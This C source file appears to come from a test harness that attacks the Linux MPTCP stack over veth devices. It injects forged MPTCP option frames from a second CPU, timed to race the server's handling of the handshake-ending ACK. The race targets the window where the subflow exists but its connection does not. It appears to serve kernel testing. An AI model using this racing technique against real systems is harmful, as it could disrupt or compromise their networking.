// SPDX-License-Identifier: GPL-2.0-only
/*
 * Forged options that arrive while another CPU of the server takes the ACK which ends the
 * first handshake: the subflow is there by then, and its connection is not yet. What is sent
 * to a veth device is taken by the CPU that sends it.
 */
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdio.h>
#include <time.h>

#include "attacker.h"

#define STEPS \
	8 /* of the time that the ACK takes, for the forged ones to begin at */

static const struct link *forged_link;
static struct frame forged;
static int64_t forged_after_ns;
static unsigned int nr_forged;
static atomic_bool is_ready, is_begun, is_over;

static int64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (int64_t)now.tv_sec * 1000000000 + now.tv_nsec;
}

/* The first or the second CPU that there is for this process; false if there is one only */
static bool run_on(const cpu_set_t *allowed, int nr)
{
	cpu_set_t one;
	int cpu;

	for (cpu = 0; cpu < CPU_SETSIZE; cpu++) {
		if (!CPU_ISSET(cpu, allowed) || nr--)
			continue;
		CPU_ZERO(&one);
		CPU_SET(cpu, &one);
		return !sched_setaffinity(0, sizeof(one), &one);
	}
	return false;
}

/* Again and again until the ACK has been taken, and once more */
static void *send_forged(void *allowed)
{
	bool over = !run_on(allowed, 1);
	int64_t start;

	atomic_store(&is_ready, true);
	while (!atomic_load(&is_begun))
		;
	start = now_ns();
	while (now_ns() - start < forged_after_ns)
		;
	while (!over) {
		over = atomic_load(&is_over);
		send_frame(forged_link, &forged);
		nr_forged++;
	}
	return NULL;
}

/* How long the ACK took, in ns; 0 if there is no other thread */
static int64_t race(const struct link *to, const struct frame *ack,
		    cpu_set_t *allowed)
{
	pthread_t other;
	int64_t start, took;

	atomic_store(&is_ready, false);
	atomic_store(&is_begun, false);
	atomic_store(&is_over, false);
	if (pthread_create(&other, NULL, send_forged, allowed))
		return 0;
	while (!atomic_load(&is_ready))
		sched_yield();
	atomic_store(&is_begun, true);
	start = now_ns();
	send_frame(to, ack);
	took = now_ns() - start;
	atomic_store(&is_over, true);
	pthread_join(other, NULL);
	return took;
}

/*
 * what=... as for inject, to the server, beside the ACK of each of the next count=N
 * connections. A client that has lost one may leave, and bring no more.
 */
bool cmd_race(void)
{
	unsigned int count = arg_number("count", "1"), nr = 0;
	int64_t took = 0;
	int path = (int)arg_number("path", "1") - 1;
	const struct connection *connection;
	struct segment segment;
	struct frame frame;
	cpu_set_t allowed;

	nr_forged = 0;
	sched_getaffinity(0, sizeof(allowed), &allowed);
	hold_firsts = true;
	while (nr < count && CPU_COUNT(&allowed) > 1 && run_on(&allowed, 0) &&
	       pump(now_ms() + 10 * patience_ms, false, &frame)) {
		if (!parse_segment(&frame, &segment) ||
		    !find_mptcp(&segment, MP_CAPABLE))
			continue;
		connection = learn_connection(path, CLIENT, &segment);
		if (!connection)
			continue;
		forged_link = make_forged(&forged, connection, SERVER);
		forged_after_ns = took * (nr++ % STEPS) / STEPS;
		took = race(&links[path][SERVER], &frame, &allowed);
	}
	sched_setaffinity(0, sizeof(allowed), &allowed);
	printf(" raced=%u forged=%u", nr, nr_forged);
	return true;
}
